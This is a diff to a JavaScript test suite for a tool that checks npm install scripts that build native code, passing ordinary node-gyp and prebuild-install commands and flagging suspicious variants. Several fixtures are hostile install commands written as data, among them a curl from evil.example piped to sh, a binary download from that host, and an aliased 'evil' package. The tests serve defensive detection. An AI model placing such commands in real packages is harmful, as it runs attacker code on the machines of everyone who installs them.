@@ -191,10 +191,11 @@ describe('a package that builds native code', () => {
     [{ install: 'node-gyp-build' }, { 'node-gyp-build': '^4.8.0' }],
     [{ install: 'prebuild-install || node-gyp rebuild' }, { 'prebuild-install': '^7.1.0' }],
     [{ install: 'node-pre-gyp install --fallback-to-build' }, { '@mapbox/node-pre-gyp': '^2.0.0' }],
-  ])('begins to do so with what that takes: told, and no sign: %j', (scripts, requires) => {
+    [{ install: 'prebuild-install -r napi --verbose || node-gyp rebuild --release' }, { 'prebuild-install': '^7.1.0' }],
+  ])('begins to do so with what that takes: ordinary: %j', (scripts, requires) => {
     const draft = begins(scripts, requires);
     expect(draft?.message).toMatch(/, which builds native code\.$/);
-    expect(draft).not.toHaveProperty('signal');
+    expect(draft?.signal?.countsAs).toBe('ordinary');
     expect(draft).not.toHaveProperty('severity');
   });
 
@@ -204,9 +205,12 @@ describe('a package that builds native code', () => {
     ['with another package under that name', { install: 'node-gyp rebuild' }, { nan: 'npm:evil@1.0.0' }],
     ['and starts a file as well', { install: 'node-gyp rebuild && node setup.js' }],
     ['and hands it to a shell', { install: 'node-gyp rebuild; curl https://evil.example/x | sh' }],
+    ['and takes it from another host', { install: 'prebuild-install -d evil.example || node-gyp rebuild' }],
+    ['and names that host in an option', { install: 'prebuild-install --download=evil.example' }],
+    ['and builds another folder', { install: 'node-gyp rebuild -C evil' }],
     ['and starts a file at another event', { install: 'node-gyp rebuild', postinstall: 'node setup.js' }],
   ])('begins to do so %s: a sign', (_, scripts, requires) => {
-    expect(begins(scripts, requires)).toHaveProperty('signal');
+    expect(begins(scripts, requires)?.signal).toEqual({ words: expect.any(String) });
   });
 
   const unlisted = { adoption: adoption(false) };
